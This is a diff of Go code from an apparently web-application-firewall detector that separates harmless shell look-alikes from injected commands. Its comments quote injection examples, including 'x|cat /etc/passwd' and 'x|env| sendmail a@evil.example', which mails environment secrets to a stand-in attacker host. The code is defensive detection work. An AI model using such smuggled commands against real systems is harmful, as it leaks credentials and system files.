@@ -1,6 +1,10 @@
-package detect
+package shell
 
-import "strings"
+import (
+	"strings"
+
+	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
+)
 
 // Shell look-alikes in developer text: a regex alternation
 // ("error|timeout|refused"), a command line piped into a text filter
@@ -17,7 +21,7 @@ import "strings"
 // placeholder, "<module>", "<your-token>", "<path>", is not one: in the
 // shell its '>' has no target and the whole line is a syntax error, so a
 // traceback ("in <module>") or a usage line ("ssh <host>") runs nothing.
-// "$" (a variable) still counts, as in segmentLooksShell.
+// "$" (a variable) still counts, as in SegmentLooksShell.
 func shellRedirect(seg string) bool {
 	for i := 0; i < len(seg); i++ {
 		c := seg[i]
@@ -30,7 +34,7 @@ func shellRedirect(seg string) bool {
 		if c == '<' {
 			// a placeholder: <word> whose '>' ends the token
 			j := i + 1
-			for j < len(seg) && (isWord(seg[j]) || seg[j] == '-' || seg[j] == '.' || seg[j] == ':') {
+			for j < len(seg) && (lex.IsWord(seg[j]) || seg[j] == '-' || seg[j] == '.' || seg[j] == ':') {
 				j++
 			}
 			if j > i+1 && j < len(seg) && seg[j] == '>' && (j+1 == len(seg) || !redirectTarget(seg[j+1]) && seg[j+1] != '>' && seg[j+1] != '&') &&
@@ -44,7 +48,7 @@ func shellRedirect(seg string) bool {
 		for k < len(seg) && (seg[k] == '<' || seg[k] == '>' || seg[k] == '&' || seg[k] == '(' || seg[k] == '|') {
 			k++
 		}
-		if k = skipSpace(seg, k); k < len(seg) && redirectTarget(seg[k]) {
+		if k = lex.SkipSpace(seg, k); k < len(seg) && redirectTarget(seg[k]) {
 			return true
 		}
 	}
@@ -56,12 +60,12 @@ func shellRedirect(seg string) bool {
 // reads one file into another; a sentence goes on with a plain word
 // ("replace <token> with yours").
 func fileWordAt(seg string, i int) bool {
-	k := skipSpace(seg, i)
+	k := lex.SkipSpace(seg, i)
 	if k == i {
 		return false
 	}
 	e := k
-	for e < len(seg) && !isSpace(seg[e]) {
+	for e < len(seg) && !lex.IsSpace(seg[e]) {
 		e++
 	}
 	return strings.ContainsAny(seg[k:e], "./~$")
@@ -69,10 +73,10 @@ func fileWordAt(seg string, i int) bool {
 
 // redirectTarget reports whether c can start the file word of a redirect.
 func redirectTarget(c byte) bool {
-	return isWord(c) || c == '/' || c == '~' || c == '.' || c == '$' || c == '"' || c == '\'' || c == '-'
+	return lex.IsWord(c) || c == '/' || c == '~' || c == '.' || c == '$' || c == '"' || c == '\'' || c == '-'
 }
 
-// inertAlternative reports whether the weak command word w at s[ws:we],
+// InertAlternative reports whether the weak command word w at s[ws:we],
 // after a '|' at s[ws-1], is an alternative of a regex or a tag list
 // rather than a command: "error|timeout|refused", "jpg|date|png". The
 // '|' is glued to words on both sides, the word carries no argument and
@@ -82,29 +86,29 @@ func redirectTarget(c byte) bool {
 // nothing on their own. "x|id" and "x|id|" end the chain with the
 // command, and "x|cat /etc/passwd" carries an argument: both stay
 // findings.
-func inertAlternative(s string, ws, we int) bool {
-	if ws < 2 || s[ws-1] != '|' || !isWord(s[ws-2]) || we >= len(s) || s[we] != '|' {
+func InertAlternative(s string, ws, we int) bool {
+	if ws < 2 || s[ws-1] != '|' || !lex.IsWord(s[ws-2]) || we >= len(s) || s[we] != '|' {
 		return false
 	}
 	j := we + 1
-	if j >= len(s) || !isAlpha(s[j]) {
+	if j >= len(s) || !lex.IsAlpha(s[j]) {
 		return false
 	}
 	k := j
-	for k < len(s) && (isWord(s[k]) || s[k] == '-') {
+	for k < len(s) && (lex.IsWord(s[k]) || s[k] == '-') {
 		k++
 	}
 	// the alternative ends the value, the group, or the regex in a sentence
-	if k < len(s) && strings.IndexByte("|) \t,", s[k]) < 0 && !(s[k] == '.' && (k+1 == len(s) || isSpace(s[k+1]))) {
+	if k < len(s) && strings.IndexByte("|) \t,", s[k]) < 0 && !(s[k] == '.' && (k+1 == len(s) || lex.IsSpace(s[k+1]))) {
 		return false
 	}
 	// In a sentence the next word is prose. An operand there ("x|env|
 	// sendmail a@evil.example", "-s", a path) makes the last alternative
 	// a command fed the weak command's output, whatever its name.
-	if k < len(s) && isSpace(s[k]) {
-		n := skipSpace(s, k)
+	if k < len(s) && lex.IsSpace(s[k]) {
+		n := lex.SkipSpace(s, k)
 		e := n
-		for e < len(s) && !isSpace(s[e]) && strings.IndexByte("|;&)`", s[e]) < 0 {
+		for e < len(s) && !lex.IsSpace(s[e]) && strings.IndexByte("|;&)`", s[e]) < 0 {
 			e++
 		}
 		if e > n && !alphaWord(s[n:e]) {
@@ -125,7 +129,7 @@ var pipeFilters = map[string]bool{
 	"less": true, "more": true,
 }
 
-// harmlessFilter reports whether the pipeline stage after the '|' at
+// HarmlessFilter reports whether the pipeline stage after the '|' at
 // s[i-1] is a text filter that reads only the pipe: flags, numbers, for
 // grep one pattern (tr: two sets), and plain words, the sentence a
 // comment goes on with ("| grep -i lodash shows two versions"). An
@@ -135,9 +139,9 @@ var pipeFilters = map[string]bool{
 // substitutions, redirects, and sort's options that write files or run a
 // program (-o, --compress-program). The stage ends at the next separator;
 // later stages are judged at their own separators.
-func harmlessFilter(s string, i int) bool {
-	w, _, we := cmdWordAt(s, i)
-	if !pipeFilters[w] || !wordEnds(s, we) {
+func HarmlessFilter(s string, i int) bool {
+	w, _, we := CommandWordAt(s, i)
+	if !pipeFilters[w] || !WordEnds(s, we) {
 		return false
 	}
 	end := len(s)
@@ -201,13 +205,13 @@ func filterOpensFiles(w, a string) bool {
 	return false
 }
 
-// timestampSubst reports whether the substitution whose command word
+// TimestampSubst reports whether the substitution whose command word
 // "date" ends at s[we] only formats the current time, up to its closing
 // ')' or '`' (opener is '(' or '`'): backup and log-rotation commands build file names with it
 // ("db-$(date +%F).dump"). Its options are formats ("+%Y-%m-%d", read here
 // with the '+' normalised to a blank) and the UTC/ISO/RFC switches; date
 // -f (reads a file) and -s (sets the clock) are not among them.
-func timestampSubst(s string, we int, opener byte) bool {
+func TimestampSubst(s string, we int, opener byte) bool {
 	closer := opener
 	if opener == '(' {
 		closer = ')'
@@ -237,10 +241,10 @@ func timestampSubst(s string, we int, opener byte) bool {
 // separator they are judged as before.
 var deviceVerbs = map[string]bool{"reboot": true, "shutdown": true, "halt": true, "ping": true}
 
-// deviceVerb reports whether s, the whole value, is exactly a device
+// DeviceVerb reports whether s, the whole value, is exactly a device
 // verb: an enum token. A verb with blanks or a line end around it
 // ("shutdown\n") is a shell line typed for a terminal, and stays a finding.
-func deviceVerb(s string) bool {
+func DeviceVerb(s string) bool {
 	return deviceVerbs[s]
 }
 
@@ -251,7 +255,7 @@ func alphaWord(w string) bool {
 		w = w[:n-1]
 	}
 	for i := 0; i < len(w); i++ {
-		if !isAlpha(w[i]) {
+		if !lex.IsAlpha(w[i]) {
 			return false
 		}
 	}
